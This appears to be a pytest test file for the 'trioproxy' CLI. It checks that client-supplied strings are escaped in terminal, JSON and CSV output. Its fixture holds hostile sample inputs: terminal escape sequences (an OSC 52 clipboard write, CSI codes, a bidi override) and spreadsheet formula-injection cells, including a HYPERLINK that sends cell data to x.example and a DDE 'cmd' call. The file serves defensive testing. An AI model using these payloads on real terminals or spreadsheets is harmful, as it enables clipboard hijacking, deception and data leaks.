"""What ``trioproxy usage`` and ``trioproxy latency`` print comes partly from clients (model
names from request bodies, session ids from headers): control sequences must reach the
operator's terminal escaped, never raw and never dropped, and CSV cells must not be formulas.
Also: ``trioproxy config`` takes the flags its help says it validates."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from trioproxy.accounting.locations import open_store
from trioproxy.accounting.record import UsageRecord
from trioproxy.commands.cli import main

NOW = 1_790_000_000.0
OSC52 = "\x1b]52;c;ZWNobyBwd25lZA==\x07"  # sets the clipboard
CSI = "\x1b[2J\x1b[31m"  # clears the screen, turns red
HOSTILE = {
    "osc52": f"gpt{OSC52}",
    "csi": f"claude{CSI}x",
    "c1": "model\x9b31mred",  # C1 CSI, one byte
    "bidi": "a\u202eevil",  # right-to-left override
    "formula": '=HYPERLINK("http://x.example/?"&A1,"click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)",
}
RAW = ("\x1b", "\x07", "\x9b", "\u202e")


def hostile_ledger(tmp_path: Path) -> str:
    url = str(tmp_path / "u.db")
    store = open_store(url)
    store.migrate()
    store.insert_many([UsageRecord(
        request_id=f"tp_{i}", started_at=NOW - 60, provider="openai", api="openai.chat",
        status=200, end_reason="complete", model=name, model_requested=name,
        session_id=f"sess{CSI}{i}", input_tokens=10, output_tokens=5, e2e_ms=100.0 + i,
        ttft_ms=20.0 + i, duration_ms=101.0) for i, name in enumerate(HOSTILE.values())])
    store.close()
    return url


def run(capsys: pytest.CaptureFixture[str], *argv: str) -> str:
    assert main(list(argv)) == 0
    return capsys.readouterr().out


@pytest.mark.parametrize("argv", [
    ("usage", "--since", "2026-01-01", "--by", "model"),
    ("usage", "--since", "2026-01-01", "--by", "session"),
    ("latency", "--since", "2026-01-01"),
    ("latency", "--since", "2026-01-01", "--by", "session"),
    ("latency", "--since", "2026-01-01", "--csv"),
])
def test_client_text_reaches_the_terminal_escaped(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], argv: tuple[str, ...]
) -> None:
    out = run(capsys, *argv, "--database-url", hostile_ledger(tmp_path))
    for raw in RAW:
        assert raw not in out, repr(raw)
    if "session" in argv:
        assert "sess\\x1b[2J\\x1b[31m3" in out
    else:
        assert "gpt\\x1b]52;c;ZWNobyBwd25lZA==\\x07" in out  # shown, not dropped
        assert "model\\x9b31mred" in out and "a\\u202eevil" in out


def test_json_output_keeps_the_names_exactly(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = run(capsys, "usage", "--since", "2026-01-01", "--json", "--database-url",
              hostile_ledger(tmp_path))
    for raw in RAW:
        assert raw not in out  # JSON escapes them itself
    assert {g["group"] for g in json.loads(out)["groups"]} == set(HOSTILE.values())


def test_latency_csv_cells_are_never_formulas(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = run(capsys, "latency", "--since", "2026-01-01", "--csv", "--database-url",
              hostile_ledger(tmp_path))
    cells = [row[0] for row in csv.reader(io.StringIO(out))][1:]
    assert cells  # one row per model and metric
    assert not any(c[:1] in ("=", "+", "-", "@", "\t", "\r") for c in cells)
    assert "'" + HOSTILE["formula"] in cells and "'" + HOSTILE["at"] in cells
    numbers = [row[4] for row in csv.reader(io.StringIO(out))][1:]
    assert any(n and float(n) > 0 for n in numbers)  # figures stay numbers


@pytest.mark.parametrize(("text", "shown"), [
    ("plain-model", "plain-model"),
    ("a\x1bb", "a\\x1bb"),
    ("tab\there", "tab\\there"),
    ("line\nbreak", "line\\nbreak"),
    ("del\x7f", "del\\x7f"),
    ("c1\x85", "c1\\x85"),
    ("back\\slash", "back\\\\slash"),
    ("bidi\u2066x\u2069", "bidi\\u2066x\\u2069"),
    ("zero\u200bwidth", "zero\\u200bwidth"),
    ("café ü 模型", "café ü 模型"),
])
def test_for_terminal(text: str, shown: str) -> None:
    from trioproxy.textsafe import for_terminal

    assert for_terminal(text) == shown


@pytest.mark.parametrize(("text", "cell"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\tx", "\\tx"),
    ("\rx", "\\rx"), ("ok", "ok"), ("a=b", "a=b"),
])
def test_for_csv(text: str, cell: str) -> None:
    from trioproxy.textsafe import for_csv

    assert for_csv(text) == cell


def test_config_takes_the_flags_its_help_says_it_validates(
    capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["config", "--port", "9091", "--no-metrics"]) == 0
    out = capsys.readouterr().out
    assert "port = 9091" in out and "metrics = false" in out
    assert main(["config", "--port", "99999"]) == 2  # refused, as serve refuses it
    assert "port" in capsys.readouterr().err
    with pytest.raises(SystemExit):
        main(["config", "--help"])
    assert "--max-body-bytes" in capsys.readouterr().out


def test_latency_compare_names_the_groups_escaped(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    url = hostile_ledger(tmp_path)
    assert main(["latency", "--since", "2026-01-01", "--compare", "model", "nosuch", "other",
                 "--database-url", url]) == 2
    err = capsys.readouterr().err
    assert "no requests in model" in err
    for raw in RAW:
        assert raw not in err, repr(raw)
    assert "gpt\\x1b]52;c;" in err  # the groups it knows, shown escaped
